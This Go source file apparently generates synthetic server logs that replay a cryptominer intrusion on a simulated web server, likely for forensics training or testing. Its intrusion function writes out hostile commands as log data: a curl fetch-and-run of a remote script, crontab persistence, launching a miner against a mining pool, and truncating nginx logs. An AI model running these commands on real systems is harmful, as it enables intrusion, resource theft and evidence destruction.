package miner

import (
	"fmt"
	"time"

	"github.com/konseki/konseki/internal/replay/raw"
)

// host is one server.
type host struct {
	*company
	machine
	n int // from 0
}

const nobody = "4294967295" // the login account of what nobody logged in for

// syslog is a day of cron, sshd and sudo.
func (h *host) syslog(d *raw.Day) {
	offset := time.Duration(h.n*7) * time.Second
	d.Every(30*time.Minute, offset+time.Minute, func(t time.Time) {
		d.Add(t, raw.CronRun(t, h.name, 1000+d.RNG.IntN(60000), "/usr/lib/sysstat/sa1 1 1"))
	})
	d.Every(time.Hour, offset+17*time.Minute, func(t time.Time) {
		d.Add(t, raw.CronRun(t, h.name, 1000+d.RNG.IntN(60000), "cd / && run-parts --report /etc/cron.hourly"))
	})
	d.Add(d.Start.Add(offset+6*time.Hour+25*time.Minute), raw.CronRun(d.Start.Add(offset+6*time.Hour+25*time.Minute), h.name, 1000+d.RNG.IntN(60000), "/usr/sbin/logrotate /etc/logrotate.conf"))
	if h.name == "api-01" {
		t := d.Start.Add(4 * time.Hour)
		d.Add(t, raw.CronRun(t, h.name, 1000+d.RNG.IntN(60000), "/opt/service/bin/collect --yesterday"))
	}
	if !quiet(d) {
		d.Scattered(d.RNG.IntN(3), 10, 18, func(t time.Time) {
			name := raw.Pick(d.RNG, []string{"k.mori", "t.hara", "y.ueda"})
			raw.SSHDAccepted(d, t, h.name, name, office, "publickey")
			u := t.Add(70 * time.Second)
			d.Add(u, raw.SudoCommand(u, h.name, name, "root", "/home/"+name, raw.Pick(d.RNG, []string{"/usr/bin/tail -n 300 /var/log/syslog", "/bin/systemctl status nginx", "/usr/bin/apt-get update", "/bin/df -h"})))
		})
	}
	for range 3 { // the internet guesses
		from, t := stranger(d), d.Within(0, 23)
		for range 5 + d.RNG.IntN(8) {
			t = t.Add(time.Duration(3+d.RNG.IntN(20)) * time.Second)
			raw.SSHDFailed(d, t, h.name, "invalid user "+raw.Pick(d.RNG, raw.Guessed()[2:]), from)
		}
	}
	if h.name == "web-02" {
		h.planted(d)
	}
}

// planted is what the intrusion left in the syslog of the server: the crontab
// of the web application's account is replaced, and cron runs what is in it.
func (h *host) planted(d *raw.Day) {
	d.On(planting(), func(t time.Time) {
		d.Add(t, raw.SyslogLine(t, h.name, "crontab[24117]", "(www-data) REPLACE (www-data)"))
		reload := at("09-28 18:17:01")
		d.Add(reload, raw.SyslogLine(reload, h.name, "cron[611]", "(www-data) RELOAD (crontabs/www-data)"))
	})
	each(d, func(t time.Time) {
		d.Add(t, raw.SyslogLine(t, h.name, fmt.Sprintf("CRON[%d]", 1000+d.RNG.IntN(60000)), "(www-data) CMD (/bin/sh "+nest+"/u.sh >/dev/null 2>&1)"))
	})
}

// planting is when the crontab is replaced.
func planting() time.Time { return at("09-28 18:16:12") }

// each calls add at the runs of the planted job on a day.
func each(d *raw.Day, add func(t time.Time)) {
	for t := at("09-28 18:23:01"); t.Before(cutOff()); t = t.Add(10 * time.Minute) {
		d.On(t, add)
	}
}

// auditLog is a day of programs started and files changed.
func (h *host) auditLog(d *raw.Day) {
	var log raw.Numbered
	run := func(t time.Time, p raw.Program) { log.Add(t, func(n int) string { return p.Audit(d.RNG, t, n) }) }
	touch := func(t time.Time, p raw.Program, name, how string) {
		log.Add(t, func(n int) string { return p.AuditFile(d.RNG, t, n, name, how) })
	}
	root := raw.Program{UID: "0", Login: nobody, TTY: "(none)", Cwd: "/"}
	for range 5 + d.RNG.IntN(4) {
		p := root
		p.Exe, p.Argv = "/usr/bin/find", []string{"find", "/var/cache/service", "-mtime", "+7", "-delete"}
		run(d.Within(0, 24), p)
	}
	p := root
	p.Exe, p.Argv = "/usr/sbin/logrotate", []string{"/usr/sbin/logrotate", "/etc/logrotate.conf"}
	run(d.Start.Add(6*time.Hour+25*time.Minute), p)
	if h.web { // the application makes pictures of its reports
		d.Scattered(6, 8, 20, func(t time.Time) {
			p := raw.Program{UID: "33", Login: nobody, TTY: "(none)", Cwd: "/var/www/service", Exe: "/usr/bin/wkhtmltopdf", Argv: []string{"wkhtmltopdf", "-q", "/var/www/service/cache/report.html", "/var/www/service/cache/report.pdf"}}
			run(t, p)
			touch(t.Add(2*time.Second), p, "/var/www/service/cache/report.pdf", "CREATE")
		})
	}
	if h.name == "web-02" {
		h.intrusion(d, run, touch)
	}
	log.Write(d, d.Number, func(time.Time) bool { return false })
}

// intrusion is what the kernel saw of the scan, of the job and of its runs.
func (h *host) intrusion(d *raw.Day, run func(t time.Time, p raw.Program), touch func(t time.Time, p raw.Program, name, how string)) {
	web := func(exe string, argv ...string) raw.Program {
		return raw.Program{UID: "33", Login: nobody, TTY: "(none)", Cwd: "/var/www/service", Exe: exe, Argv: argv}
	}
	d.On(planting(), func(t time.Time) {
		fetch := web("/usr/bin/curl", "curl", "-fsSL", "http://"+shop+"/u.sh", "-o", nest+"/u.sh")
		run(t.Add(-4*time.Second), web("/bin/sh", "sh", "-c", "mkdir -p "+nest+"; curl -fsSL http://"+shop+"/u.sh -o "+nest+"/u.sh; crontab "+nest+"/c"))
		run(t.Add(-3*time.Second), fetch)
		touch(t.Add(-2*time.Second), fetch, nest+"/u.sh", "CREATE")
		plant := web("/usr/bin/crontab", "crontab", nest+"/c")
		run(t, plant)
		touch(t.Add(100*time.Millisecond), plant, "/var/spool/cron/crontabs/www-data", "CREATE")
	})
	first := at("09-28 18:23:01")
	each(d, func(t time.Time) {
		script := web("/bin/sh", "/bin/sh", nest+"/u.sh")
		run(t.Add(40*time.Millisecond), script)
		if !t.Equal(first) {
			run(t.Add(90*time.Millisecond), web("/usr/bin/pgrep", "pgrep", "-f", digger))
			return
		}
		fetch := web("/usr/bin/curl", "curl", "-fsSL", "http://"+shop+"/k", "-o", digger)
		run(t.Add(200*time.Millisecond), fetch)
		touch(t.Add(900*time.Millisecond), fetch, digger, "CREATE")
		run(t.Add(2*time.Second), web(digger, digger, "-o", "stratum+tcp://"+pool+":3333", "-u", wallet, "-p", "x", "-k", "--donate-level", "1"))
	})
	d.On(emptied(), func(t time.Time) {
		run(t.Add(-2*time.Second), web("/usr/bin/truncate", "truncate", "-s", "0", "/var/log/nginx/access.log", "/var/log/nginx/error.log"))
	})
}

// integrity is a day of the watch on crontabs and the like: a pass a minute, of
// which it tells the changes at once and the number every hour.
func (h *host) integrity(d *raw.Day) {
	d.Every(time.Hour, 58*time.Second, func(t time.Time) {
		d.Add(t, raw.Object{{"time", t.Format(time.RFC3339)}, {"host", h.name}, {"program", "watchd"}, {"level", "info"}, {"passes", 60}, {"files", 214}, {"message", "60 passes over 214 files, none changed"}}.Text())
	})
	if h.name != "web-02" {
		return
	}
	d.On(at("09-28 18:16:58"), func(t time.Time) {
		d.Add(t, raw.Object{
			{"time", t.Format(time.RFC3339)}, {"host", h.name}, {"program", "watchd"}, {"level", "warning"}, {"action", "file_created"},
			{"path", "/var/spool/cron/crontabs/www-data"}, {"owner", "www-data"}, {"sha256", "3b5d5c3712955042212316173ccf37be80001f6e1d5ad0c8f3b1d3e1c2b7a901"},
			{"message", "a file under watch appeared"},
		}.Text())
	})
}
